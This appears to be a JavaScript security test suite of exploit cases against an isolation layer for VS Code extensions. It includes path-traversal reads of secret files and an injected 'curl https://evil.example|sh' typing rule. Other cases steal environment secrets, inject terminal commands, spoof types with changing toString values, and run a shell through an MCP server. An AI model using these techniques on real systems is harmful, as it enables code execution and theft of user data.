'use strict'

// Round 11, the vscode object (invariants 4, 6, 10 and 13), inside VS Code's own extension host: what the editor keeps of an address, whom
// it asks by itself, and names that are anybody's.

const { a, grant } = require('./lib.js')
const r = more => ({ round: 11, ...more })
// SYMBOLS gives what a provider of symbols reads of a document with a text in its name.
const SYMBOLS = `((vscode, part) => {
  const kept = { got: 'no' }
  vscode.languages.registerDocumentSymbolProvider([{ scheme: 'file' }], { provideDocumentSymbols: d => {
    if (d.fileName.includes(part)) try { kept.got = d.getText() } catch (e) { kept.got = e.message }
    return []
  } })
  return kept
})`
const withSymbols = f => eval('(' + f.toString().replace('SYMBOLS', SYMBOLS) + ')')

module.exports = [
  a('reads any file that it shows, by an address that the editor shortens', withSymbols(async ({ vscode, T }) => {
    const kept = SYMBOLS(vscode, 'secret.txt')
    const [, first] = T.secret.split('/')
    await vscode.window.showTextDocument(vscode.Uri.file('/' + first + '/..' + T.secret))
    await new Promise(ok => setTimeout(ok, 600))
    return kept.got
  }), r()),
  a('reads what a neighbour opened, and it shows', withSymbols(async ({ vscode, T, other }) => {
    const kept = SYMBOLS(vscode, 'secret.txt')
    await other('victim.open', T.secret)
    await vscode.window.showTextDocument(vscode.workspace.textDocuments.find(d => d.fileName === T.secret))
    await new Promise(ok => setTimeout(ok, 600))
    return kept.got
  }), r()),
  a('reads any file, as what another was before', async ({ vscode, T }) => {
    const control = vscode.scm.createSourceControl('acme', 'x')
    control.quickDiffProvider = { provideOriginalResource: () => vscode.Uri.file(T.secret) }
    await new Promise(ok => setTimeout(ok, 1500))
    return vscode.workspace.textDocuments.find(d => d.fileName === T.secret).getText()
  }, r(grant('documents'))),
  a('the length of what a neighbour opened', async ({ vscode, T, other }) => {
    await other('victim.open', T.secret)
    const d = vscode.workspace.textDocuments.find(x => x.fileName === T.secret)
    return d.validatePosition(new vscode.Position(0, 9999)).character === 13 ? 'yes' : 'no'
  }, r()),
  a('a debugger of another type, by a type that says two things', async ({ vscode }) => {
    let n = 0
    await vscode.debug.startDebugging(undefined, { request: 'launch', name: 'x', program: '/x',
      type: { toString: () => (n++ === 0 ? 'acme' : 'rf-marked') } })
    return 'done'
  }, r({ inv: 6, goal: 'call', call: 'MainThreadDebugService.$startDebugging marked', ...grant({ surface: 'debug', resource: 'acme' }) })),
  a('a debugger of another type, by a type that says two things and is written as one', async ({ vscode }) => {
    let n = 0
    await vscode.debug.startDebugging(undefined, { request: 'launch', name: 'x', program: '/x',
      type: { toString: () => (n++ === 0 ? 'acme' : 'rf-marked'), toJSON: () => 'rf-marked' } })
    return 'done'
  }, r({ inv: 6, goal: 'call', call: 'MainThreadDebugService.$startDebugging marked', ...grant({ surface: 'debug', resource: 'acme' }) })),
  a('what the person types in a language of another\'s, that its manifest names as well', async ({ vscode }) => {
    vscode.languages.setLanguageConfiguration('victimlang', { onEnterRules: [{ beforeText: /.*/,
      action: { indentAction: vscode.IndentAction.None, appendText: 'curl https://evil.example|sh\n' } }] })
    await new Promise(ok => setTimeout(ok, 300))
    return 'done'
  }, r({ goal: 'call', call: 'MainThreadLanguageFeatures.$setLanguageConfiguration', declares: { languages: [{ id: 'victimlang' }] } })),
  a('what the workbench tells everybody, by the free name of JSON', async ({ T, other }) => {
    const real = JSON
    let got = 'no'
    JSON = { stringify: real.stringify, parse: (s, f) => {
      const m = /canary-[0-9a-f]+/.exec(s)
      if (m) got = m[0]
      return real.parse(s, f)
    } }
    try { await other('victim.open', T.secret) } finally { JSON = real }
    return got
  }, r({ inv: 1 })),
  a('what is on the clipboard, by a completion', async ({ vscode }) => {
    vscode.languages.registerCompletionItemProvider('*', { provideCompletionItems: () => {
      const i = new vscode.CompletionItem('console')
      i.insertText = new vscode.SnippetString('${CLIPBOARD} rf-marked')
      return [i]
    } })
    await new Promise(ok => setTimeout(ok, 1500))
    return 'done'
  }, r({ goal: 'call', call: '$provideCompletionItems marked', ...grant('documents') })),
  a('any command, by a completion that a person takes', async ({ vscode }) => {
    vscode.languages.registerCompletionItemProvider('*', { provideCompletionItems: () => {
      const i = new vscode.CompletionItem('console')
      i.command = { command: 'workbench.rf-marked', title: 'x' }
      return [i]
    } })
    await new Promise(ok => setTimeout(ok, 1500))
    return 'done'
  }, r({ round: 16, goal: 'call', call: '$provideCompletionItems marked', ...grant('documents') })),
  a('any command, by an object that stands for a completion', async ({ vscode }) => {
    vscode.languages.registerCompletionItemProvider('*', { provideCompletionItems: () =>
      ({ items: [{ label: 'console', get command() { return { get command() { return 'workbench.rf-marked' }, title: 'x' } } }] }) })
    await new Promise(ok => setTimeout(ok, 1500))
    return 'done'
  }, r({ round: 16, goal: 'call', call: '$provideCompletionItems marked', ...grant('documents') })),
  a('a program by a server of tools for agents, of the class', async ({ vscode }) => {
    vscode.lm.registerMcpServerDefinitionProvider('acme.mcp', {
      provideMcpServerDefinitions: () => [new vscode.McpStdioServerDefinition('rf-marked', '/bin/sh', ['-c', 'id'])] })
    await new Promise(ok => setTimeout(ok, 500))
    return 'done'
  }, r({ inv: 8, goal: 'call', call: 'MainThreadMcpShape.$upsertMcpCollection marked', ...grant('ai'),
    declares: { mcpServerDefinitionProviders: [{ id: 'acme.mcp', label: 'x' }] } })),
  a('an address elsewhere that has the granted host in its path', async ({ vscode }) => {
    await vscode.env.openExternal(vscode.Uri.parse('https://evil.example/.good.example/x'))
    return 'done'
  }, r({ inv: 9, goal: 'call', call: 'MainThreadWindow.$openUri', ...grant({ surface: 'open', resource: 'https://*.good.example/*' }) })),
  a('what the pages of a neighbour\'s renderer say', ({ vscode }) => {
    const m = vscode.notebooks.createRendererMessaging('victim.renderer')
    m.onDidReceiveMessage(() => {})
    return typeof m.postMessage === 'function' ? 'yes' : 'no'
  }, r({ inv: 13, kind: 'interference', declares: {
    notebookRenderer: [{ id: 'victim.renderer', displayName: 'x', mimeTypes: ['victim/x'], entrypoint: './r.js' }] } })),
  a('the environment, by a promise\'s callback that a neighbour stands before', async ({ other }) => {
    other('instruments')
    return Promise.resolve('return process.env.SECRET_TOKEN').then(Function).then(f => f())
  }, r({ inv: 4 })),
  a('the real API from what an object of it holds, with a proposal', async ({ vscode, context, hunt }) => hunt([
    vscode, context, vscode.window.createOutputChannel('x'), vscode.window.createStatusBarItem(), vscode.window.createQuickPick(),
    vscode.languages.createDiagnosticCollection('x'), new vscode.CancellationTokenSource(), new vscode.EventEmitter(),
    context.extension, context.globalState, context.workspaceState, vscode.scm.createSourceControl('acme', 'x'),
    vscode.comments.createCommentController('acme', 'x'), vscode.tests.createTestController('acme', 'x'),
  ]), r({ manifest: { enabledApiProposals: ['findFiles2', 'quickDiffProvider'] } })),
  a('the settings of the person that it shows, by an address that the editor shortens', async ({ vscode, T }) => {
    let got = 'no'
    vscode.languages.registerDocumentSymbolProvider([{ scheme: 'vscode-userdata' }], { provideDocumentSymbols: d => {
      try { got = d.getText() } catch (e) { got = e.message }
      return []
    } })
    const [, first] = T.secret.split('/')
    await vscode.window.showTextDocument(vscode.Uri.from({ scheme: 'vscode-userdata', path: '/' + first + '/..' + T.secret }))
    await new Promise(ok => setTimeout(ok, 600))
    return got
  }, r()),
  a('words for another\'s language, by an object that is a text', async ({ vscode }) => {
    const words = { toString: () => 'rf-marked\n', toJSON: () => 'rf-marked\n' }
    vscode.languages.setLanguageConfiguration('shellscript', { onEnterRules: [{ beforeText: /.*/,
      action: { indentAction: vscode.IndentAction.None, appendText: words } }] })
    await new Promise(ok => setTimeout(ok, 300))
    return 'done'
  }, r({ inv: 6, goal: 'call', call: 'MainThreadLanguageFeatures.$setLanguageConfiguration marked' })),
  // Of a language without pairs of its own, brackets are closed as it is typed.
  a('words for another\'s language, by brackets', async ({ vscode }) => {
    vscode.languages.setLanguageConfiguration('plaintext', { brackets: [['(', ') rf-marked\n']] })
    await new Promise(ok => setTimeout(ok, 300))
    return 'done'
  }, r({ goal: 'call', call: 'MainThreadLanguageFeatures.$setLanguageConfiguration marked' })),
  a('what a neighbour asks of the workbench, said otherwise as it is written', async ({ other }) => {
    const { stringify } = JSON
    JSON.stringify = (v, ...more) => stringify(Array.isArray(v) && v[0] === 'acme.nothing' ?
      ['workbench.action.terminal.sendSequence', [{ text: 'rf-marked\n' }], false] : v, ...more)
    try { await Promise.race([other('acme.nothing'), new Promise(ok => setTimeout(ok, 800))]) } catch { /* nobody has it */ }
    JSON.stringify = stringify
    return 'done'
  }, r({ inv: 1, goal: 'call', call: 'MainThreadCommands.$executeCommand marked' })),
]
